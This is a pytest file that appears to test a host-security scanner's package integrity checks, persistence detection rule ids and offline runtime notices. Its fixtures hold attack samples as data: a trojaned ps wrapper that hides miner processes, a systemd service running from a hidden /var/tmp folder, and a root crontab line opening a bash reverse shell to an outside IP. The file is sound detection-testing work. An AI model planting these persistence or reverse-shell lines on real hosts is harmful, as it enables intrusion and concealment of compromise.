"""Package verification (debsums-style) on the first scan, stable rule ids, and offline runtime.

A trojaned package file is reported by the very first integrity scan; what must not be reported
is: a conffile an administrator edited, a diverted file, an unowned file, and anything when the
check is switched off. Persistence, runtime and malware findings carry stable rule ids.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

from hostwarden.scan.base import ScanContext
from hostwarden.scan.integrity import IntegrityScanner
from hostwarden.scan.persistence import PersistenceScanner
from hostwarden.scan.runtime import RuntimeScanner

PS = b"\x7fELF the real ps"
TOP = b"\x7fELF top"
WRAPPER = b"#!/bin/bash\n/usr/bin/ps.lanigiro \"$@\" | grep -v miner\n"


def _md5(data: bytes) -> str:
    return hashlib.md5(data, usedforsecurity=False).hexdigest()


def _put(root: Path, rel: str, data: bytes) -> None:
    (root / rel).parent.mkdir(parents=True, exist_ok=True)
    (root / rel).write_bytes(data)


def _host(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    _put(root, "usr/bin/ps", WRAPPER)                       # replaced: matches nothing procps installed
    _put(root, "usr/bin/top", TOP)                          # intact
    _put(root, "usr/bin/locate", b"\x7fELF plocate")        # diverted by another package: not procps's file
    _put(root, "usr/bin/helper", b"#!/bin/sh\n")            # owned by no package
    _put(root, "etc/sysctl.conf", b"net.ipv4.ip_forward=1\n")  # conffile, edited by the admin
    # merged /usr: dpkg lists /bin/ps for what lives at /usr/bin/ps
    _put(root, "var/lib/dpkg/info/procps.md5sums",
         f"{_md5(PS)}  bin/ps\n{_md5(TOP)}  usr/bin/top\n{_md5(b'mlocate')}  usr/bin/locate\n".encode())
    _put(root, "var/lib/dpkg/diversions", b"/usr/bin/locate\n/usr/bin/locate.findutils\nplocate\n")
    stock = _md5(b"# stock\n")
    _put(root, "var/lib/dpkg/status",
         f"Package: procps\nStatus: install ok installed\nConffiles:\n /etc/sysctl.conf {stock}\n".encode())
    return root


def _scan(root: Path, **options: object) -> tuple[IntegrityScanner, list[dict]]:
    scanner = IntegrityScanner()
    findings = scanner.scan(ScanContext(root=root, options={"fim_paths": ["/etc", "/usr/bin"], **options}))
    return scanner, findings


def test_first_scan_reports_a_replaced_package_file(tmp_path: Path) -> None:
    scanner, findings = _scan(_host(tmp_path))
    assert [(f["file.path"], f["rule.id"], f["hostwarden.grade"]) for f in findings] == [
        ("/usr/bin/ps", "integrity.tampered", "L1")]
    evidence = findings[0]["hostwarden.evidence"]
    assert evidence["check"] == "package-verification" and evidence["package"] == "procps"
    assert evidence["md5"] == _md5(WRAPPER) and evidence["package_md5"] == _md5(PS)
    assert findings[0]["package.name"] == "procps" and "--reinstall procps" in findings[0]["hostwarden.fix"]
    assert scanner.summary["baseline"] is True  # no previous snapshot was needed
    assert scanner.summary["package_files_verified"] == 2  # ps and top: not the diverted one, not the conffile


def test_verification_can_be_switched_off(tmp_path: Path) -> None:
    scanner, findings = _scan(_host(tmp_path), fim_verify_packages=False)
    assert findings == [] and scanner.summary["package_files_verified"] == 0


def test_a_root_without_dpkg_verifies_nothing(tmp_path: Path) -> None:
    root = tmp_path / "root"
    _put(root, "usr/bin/ps", WRAPPER)
    scanner, findings = _scan(root)
    assert findings == [] and scanner.summary["package_files_verified"] == 0


def test_persistence_rule_ids_and_a_venv_is_not_a_hidden_folder(tmp_path: Path) -> None:
    root = tmp_path / "root"
    _put(root, "etc/systemd/system/api.service",
         b"[Service]\nExecStart=/srv/api/.venv/bin/gunicorn app:app\n")
    _put(root, "etc/systemd/system/sysupdate.service",
         b"[Service]\nExecStart=/var/tmp/.sysupdate/sysupdate --config=/var/tmp/.sysupdate/c.json\n")
    _put(root, "var/spool/cron/crontabs/root", b"0 * * * * /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4443 0>&1'\n")
    found = {f["file.path"]: f["rule.id"] for f in PersistenceScanner().scan(ScanContext(root=root))}
    assert found == {"/etc/systemd/system/sysupdate.service": "persistence.tmp_binary",
                     "/var/spool/cron/crontabs/root": "persistence.reverse_shell"}


def test_runtime_off_the_live_host_says_so(tmp_path: Path) -> None:
    ctx = ScanContext(root=tmp_path, live=False)
    scanner = RuntimeScanner()
    assert scanner.scan(ctx) == []
    assert scanner.summary["live"] is False
    (notice,) = ctx.notices
    assert notice["code"] == "SCAN-9204" and notice["scanner"] == "runtime" and str(tmp_path) in notice["message"]
